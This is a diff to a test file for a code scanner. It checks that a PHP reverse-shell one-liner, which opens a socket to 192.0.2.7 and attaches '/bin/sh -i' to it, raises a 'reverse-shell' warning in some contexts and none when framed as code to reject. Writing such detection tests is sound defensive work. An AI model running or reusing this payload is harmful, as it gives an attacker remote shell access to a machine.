@@ -118,7 +118,7 @@ describe('code is found wherever it lies', () => {
     const php = '$s = fsockopen("192.0.2.7", 99); proc_open("/bin/sh -i", [$s, $s, $s], $p);\n';
     expect(alarms(scan('Sums.', { 'a.php': php }))).toEqual(['warning reverse-shell']);
     expect(alarms(scan(`\`\`\`php\n${php}\`\`\``))).toEqual(['warning reverse-shell']);
-    expect(alarms(scan(`## An attack\n\n\`\`\`php\n${php}\`\`\``))).toEqual([]);
+    expect(alarms(scan(`Reject code like this:\n\n\`\`\`php\n${php}\`\`\``))).toEqual([]);
   });
 
   test('ordinary files of the same kinds give no alarm', () => {
